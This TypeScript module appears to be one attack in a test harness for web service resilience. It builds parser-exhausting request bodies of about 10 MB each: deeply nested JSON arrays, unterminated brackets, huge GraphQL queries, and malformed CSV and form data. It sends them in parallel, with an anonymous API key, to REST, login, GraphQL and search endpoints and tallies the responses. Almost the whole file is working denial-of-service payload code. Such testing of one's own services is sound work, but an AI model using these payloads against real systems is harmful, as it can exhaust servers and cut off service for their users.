// Bodies that take long to read.

import { ask } from "../ask.ts";
import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
import { ANON_KEY } from "../callers.ts";

const BODY_BYTES = 10 * 2 ** 20 - 100;
const AT_ONCE = 2;

type Bomb = { readonly path: string; readonly type: string; readonly body: Buffer };

const json = "application/json";
const lists = filled("[", "[],", "[]]");
const open = filled("", "[", "");
const empty = filled("{", '"":0,', '"":0}');

const BOMBS: readonly Bomb[] = [
  ...["/rest/v1/marks", "/users", "/auth/login", "/graphql", "/rest/v1/rpc/search"].flatMap((path) =>
    [lists, open, empty].map((body) => ({ path, type: json, body })),
  ),
  { path: "/graphql", type: json, body: filled('{"query":"{a}","variables":{"a":[', "[],", "[]]}}") },
  { path: "/graphql", type: json, body: filled('{"query":"', "{a ", '"}') },
  // The quote at the end makes it no CSV, so that no row is written.
  { path: "/rest/v1/marks", type: "text/csv", body: filled("note\n", "a\n", '"') },
  { path: "/rest/v1/marks", type: "text/csv", body: filled("note,ref\n", ",\n", '"') },
  ...["/rest/v1/marks", "/auth/login"].map((path) => ({
    path,
    type: "application/x-www-form-urlencoded",
    body: filled("", "a=&", "a="),
  })),
];

export const attack: Attack = async (target) => {
  const outcomes = new Outcomes();
  let next = 0;
  await repeat(target, { times: AT_ONCE, pauseMs: 50 }, async () => {
    const { path, type, body } = BOMBS[next++ % BOMBS.length]!;
    const headers = { "Content-Type": type, apikey: ANON_KEY };
    const sent = ask(target.url + path, { method: "POST", headers, body });
    outcomes.count(await sent.then(({ status }) => String(status), failureOf));
  });
  return outcomes.result;
};

function filled(start: string, piece: string, end: string): Buffer {
  return Buffer.from(start + piece.repeat(Math.floor(BODY_BYTES / piece.length)) + end);
}
